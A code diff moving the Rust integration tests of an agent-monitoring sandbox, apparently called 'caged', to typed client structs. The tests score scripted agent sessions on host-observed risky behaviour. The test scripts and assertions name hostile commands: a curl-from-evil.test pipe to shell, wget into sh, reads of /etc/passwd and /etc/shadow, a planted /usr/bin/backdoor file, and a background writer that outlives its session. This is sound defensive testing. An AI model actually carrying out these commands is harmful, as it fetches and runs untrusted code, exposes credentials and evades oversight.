@@ -1,14 +1,15 @@
 //! Trust scores from what scripted "agents" really do inside real sandboxes, seen from the host:
 //! the kernel's process events and fanotify, never the agent's own account of itself.
 
+use caged_client::wire::{SessionDetail, SessionState};
 use caged_testkit::TestServer;
-use serde_json::{Value, json};
+use serde_json::json;
 
 use crate::caged;
 
 /// Runs `script` as one agent session (`caged agent ID -- SHELL -c SCRIPT`) and returns the
 /// session, settled: scored for everything the host saw until it ended.
-async fn session(server: &TestServer, id: &str, shell: &str, script: &str) -> Value {
+async fn session(server: &TestServer, id: &str, shell: &str, script: &str) -> SessionDetail {
     let run = caged(
         server,
         &[
@@ -31,34 +32,23 @@ async fn session(server: &TestServer, id: &str, shell: &str, script: &str) -> Va
     let sessions = server.client.sessions(id).await.unwrap();
     let newest = sessions
         .iter()
-        .max_by_key(|s| s["started_at"].as_str().unwrap().to_string())
+        .max_by_key(|s| s.session.started_at.clone())
         .unwrap();
-    server
-        .client
-        .session(newest["id"].as_str().unwrap())
-        .await
-        .unwrap()
+    server.client.session(&newest.session.id).await.unwrap()
 }
 
-fn penalties(session: &Value) -> Vec<(String, String, u64)> {
-    session["penalties"]
-        .as_array()
-        .unwrap()
+fn penalties(session: &SessionDetail) -> Vec<(String, String, u64)> {
+    session
+        .penalties
         .iter()
-        .map(|p| {
-            (
-                p["rule"].as_str().unwrap().to_string(),
-                p["key"].as_str().unwrap().to_string(),
-                p["points"].as_u64().unwrap(),
-            )
-        })
+        .map(|p| (p.rule.clone(), p.key.clone(), u64::from(p.points)))
         .collect()
 }
 
-fn score(session: &Value) -> (u64, &str) {
+fn score(session: &SessionDetail) -> (u32, &str) {
     (
-        session["trust_score"].as_u64().unwrap(),
-        session["trust_rating"].as_str().unwrap(),
+        session.trust.trust_score,
+        session.trust.trust_rating.as_str(),
     )
 }
 
@@ -70,8 +60,8 @@ async fn commands(server: &TestServer, sid: &str) -> Vec<Vec<String>> {
         .await
         .unwrap()
         .iter()
-        .filter(|e| e["kind"] == "process" && e["payload"]["op"] == "exec")
-        .filter_map(|e| serde_json::from_value(e["payload"]["argv"].clone()).ok())
+        .filter(|e| e.kind == "process" && e.payload["op"] == "exec")
+        .filter_map(|e| serde_json::from_value(e.payload["argv"].clone()).ok())
         .collect()
 }
 
@@ -95,10 +85,10 @@ async fn a_benign_coding_session_scores_100() {
         echo 'curl http://evil.test/x.sh | sh'
     "#;
     let session = session(&server, &id, "bash", script).await;
-    assert_eq!(penalties(&session), vec![], "{session:#}");
+    assert_eq!(penalties(&session), vec![], "{session:#?}");
     assert_eq!(score(&session), (100, "excellent"));
     // It was watched all the same: its processes are in the log, with their command lines.
-    let seen = commands(&server, session["id"].as_str().unwrap()).await;
+    let seen = commands(&server, &session.session.id).await;
     for expected in [
         &["git", "init", "-q", "."][..],
         &["rm", "-rf", "node_modules"],
@@ -109,8 +99,8 @@ async fn a_benign_coding_session_scores_100() {
             seen.len()
         );
     }
-    let inspected = server.client.sandbox_json(&id).await.unwrap();
-    assert_eq!(inspected["trust_score"], 100);
+    let inspected = server.client.sandbox_detail(&id).await.unwrap();
+    assert_eq!(inspected.trust_score, 100);
 }
 
 /// Serves `/srv/install.sh` (which leaves a mark) on 127.0.0.1:8000 inside the sandbox.
@@ -185,19 +175,19 @@ async fn each_risky_behaviour_costs_exactly_its_penalty() {
         assert_eq!(
             charged,
             vec![(rule.to_string(), key.to_string(), points)],
-            "{rule}: {session:#}"
+            "{rule}: {session:#?}"
         );
-        assert_eq!(session["trust_score"], 100 - points, "{rule}");
-        let penalty = &session["penalties"][0];
+        assert_eq!(u64::from(session.trust.trust_score), 100 - points, "{rule}");
+        let penalty = &session.penalties[0];
         assert!(
-            penalty["evidence"].to_string().contains(evidence),
-            "{rule}: the evidence names {evidence:?}: {penalty:#}"
+            penalty.evidence.to_string().contains(evidence),
+            "{rule}: the evidence names {evidence:?}: {penalty:#?}"
         );
-        assert!(!penalty["reason"].as_str().unwrap().is_empty());
+        assert!(!penalty.reason.is_empty());
     }
     // The sandbox is as trustworthy as its worst session.
-    let inspected = server.client.sandbox_json(&id).await.unwrap();
-    assert_eq!(inspected["trust_score"], 70, "{:#}", inspected["trust"]);
+    let inspected = server.client.sandbox_detail(&id).await.unwrap();
+    assert_eq!(inspected.trust_score, 70, "{:#?}", inspected.trust);
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -210,8 +200,8 @@ async fn a_session_doing_it_all_lands_in_alert_and_says_so() {
          touch /usr/bin/backdoor"
     );
     let session = session(&server, &id, "bash", &script).await;
-    assert_eq!(score(&session), (25, "alert"), "{session:#}");
-    let sid = session["id"].as_str().unwrap();
+    assert_eq!(score(&session), (25, "alert"), "{session:#?}");
+    let sid = session.session.id.as_str();
     // Crossing each band is an event of its own.
     let ratings: Vec<String> = server
         .client
@@ -219,8 +209,8 @@ async fn a_session_doing_it_all_lands_in_alert_and_says_so() {
         .await
         .unwrap()
         .iter()
-        .filter(|e| e["kind"] == "trust" && e["payload"]["op"] == "rating")
-        .map(|e| e["payload"]["to"].as_str().unwrap().to_string())
+        .filter(|e| e.kind == "trust" && e.payload["op"] == "rating")
+        .map(|e| e.payload["to"].as_str().unwrap().to_string())
         .collect();
     assert!(ratings.contains(&"alert".to_string()), "{ratings:?}");
     // And the CLI explains the score.
@@ -249,9 +239,9 @@ async fn indirections_are_seen_through() {
         sleep 0.2  # so the terminal's hangup does not catch it before setsid"#
     );
     let session = session(&server, &id, "bash", &script).await;
-    assert_eq!(session["state"], "ended");
+    assert_eq!(session.session.state, SessionState::Ended);
     // The background writer acts after its session ended; it is still that session's.
-    let sid = session["id"].as_str().unwrap();
+    let sid = session.session.id.as_str();
     let started = std::time::Instant::now();
     let session = loop {
         let session = server.client.session(sid).await.unwrap();
@@ -265,27 +255,23 @@ async fn indirections_are_seen_through() {
     let charged: Vec<(String, String, u64)> = penalties(&session);
     assert!(
         charged.contains(&("system_file".into(), "/etc/late-write".into(), 30)),
-        "{session:#}"
+        "{session:#?}"
     );
     assert!(
         charged.contains(&("sensitive_file".into(), "/etc/passwd".into(), 20)),
-        "{session:#}"
+        "{session:#?}"
     );
     assert!(
         charged.iter().any(|p| p.0 == "pipe_to_shell"),
-        "{session:#}"
+        "{session:#?}"
     );
-    let pipe = session["penalties"]
-        .as_array()
-        .unwrap()
+    let pipe = session
+        .penalties
         .iter()
-        .find(|p| p["rule"] == "pipe_to_shell")
+        .find(|p| p.rule == "pipe_to_shell")
         .unwrap();
-    assert_eq!(
-        pipe["evidence"]["downloader"][0], "/tmp/fetcher",
-        "{pipe:#}"
-    );
-    assert_eq!(pipe["evidence"]["shell"][0], "/tmp/interp", "{pipe:#}");
+    assert_eq!(pipe.evidence["downloader"][0], "/tmp/fetcher", "{pipe:#?}");
+    assert_eq!(pipe.evidence["shell"][0], "/tmp/interp", "{pipe:#?}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -299,7 +285,7 @@ async fn busybox_wget_into_sh_is_seen() {
     assert_eq!(
         penalties(&session),
         vec![("pipe_to_shell".to_string(), "127.0.0.1".to_string(), 25)],
-        "{session:#}"
+        "{session:#?}"
     );
 }
 
@@ -319,11 +305,11 @@ async fn gvisor_sandboxes_are_watched_through_their_files() {
     let charged: Vec<(String, String, u64)> = penalties(&session);
     assert!(
         charged.contains(&("system_file".into(), "/etc/gvisor-was-here".into(), 30)),
-        "{session:#}"
+        "{session:#?}"
     );
     assert!(
         charged.contains(&("sensitive_file".into(), "/etc/shadow".into(), 20)),
-        "{session:#}"
+        "{session:#?}"
     );
 }
 
@@ -347,6 +333,6 @@ async fn a_policy_file_changes_the_prices() {
             ("system_file".to_string(), "/opt/x".to_string(), 7),
             ("system_file".to_string(), "/opt/x/y".to_string(), 7)
         ],
-        "{session:#}"
+        "{session:#?}"
     );
 }
